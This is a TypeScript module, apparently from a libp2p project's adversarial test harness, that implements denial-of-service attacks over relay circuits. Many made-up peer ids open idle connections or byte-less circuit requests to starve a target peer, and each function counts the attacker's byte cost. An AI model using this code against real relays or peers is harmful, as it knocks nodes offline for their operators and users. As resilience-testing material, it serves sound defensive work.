/** Attacks with circuits: strangers with made-up ids that connect to a peer over its relay and do nothing. */

import { peerIdFromString } from '@libp2p/peer-id'
import { connectTo, HOP } from '../../../test/network/hop-client.ts'
import { circuitNode, dial, hostileNode, MANY_STREAMS } from './hostile-node.ts'
import { atRate, ended, inLanes } from './repeat.ts'
import type { HostileNode } from './hostile-node.ts'
import type { Rate } from './repeat.ts'

/** The handshakes of one connection over a circuit, and the request for a circuit alone, in bytes. */
const CONNECTION_BYTES = 1500
const REQUEST_BYTES = 150

/** Between the end of a circuit and the next one, in milliseconds. */
const PAUSE_MS = 1000

interface Circuits {
  relay: string
  /** A circuit address of the victim. */
  target: string
  /** How many strangers, and how many circuits each has open. */
  ids: number
  each: number
  seconds: number
}

/** Idle connections over circuits, all handshakes finished. They are opened again when the victim closes them. */
export async function lockOut({ relay, target, ids, each, seconds }: Circuits): Promise<number> {
  let opened = 0
  await strangers(ids, circuitNode, async node => {
    await dial(node, relay)
    await inLanes({ count: each, seconds, pauseMs: PAUSE_MS }, async () => {
      const connection = await dial(node, target)
      opened++
      await ended(connection)
    })
  })
  return opened * CONNECTION_BYTES
}

/** Circuits without any byte on them. */
export async function holdCircuits({ relay, target, ids, each, seconds }: Circuits): Promise<number> {
  const request = requestFor(target)
  let opened = 0
  await strangers(ids, hostileNode, async node => {
    const connection = await dial(node, relay)
    const hold = async (): Promise<void> => {
      const stream = await connection.newStream(HOP, MANY_STREAMS)
      opened++
      stream.send(request)
      await ended(stream)
    }
    await inLanes({ count: each, seconds, pauseMs: PAUSE_MS }, hold, ended(connection))
  })
  return opened * REQUEST_BYTES
}

/** Circuits without any byte on them, at a rate. */
export async function silentCircuits({
  relay,
  target,
  ...rate
}: { relay: string; target: string } & Rate): Promise<number> {
  await using node = await hostileNode()
  const connection = await dial(node, relay)
  const request = requestFor(target)
  const opened = await atRate(rate, async () => {
    const stream = await connection.newStream(HOP, MANY_STREAMS)
    stream.send(request)
  })
  return opened * REQUEST_BYTES
}

function requestFor(target: string): Buffer {
  return connectTo(peerIdFromString(target.split('/').at(-1) ?? ''))
}

async function strangers(
  count: number,
  start: () => Promise<HostileNode>,
  attack: (node: HostileNode) => Promise<void>,
): Promise<void> {
  const one = async (): Promise<void> => {
    await using node = await start()
    await attack(node)
  }
  await Promise.allSettled(Array.from({ length: count }, one))
}
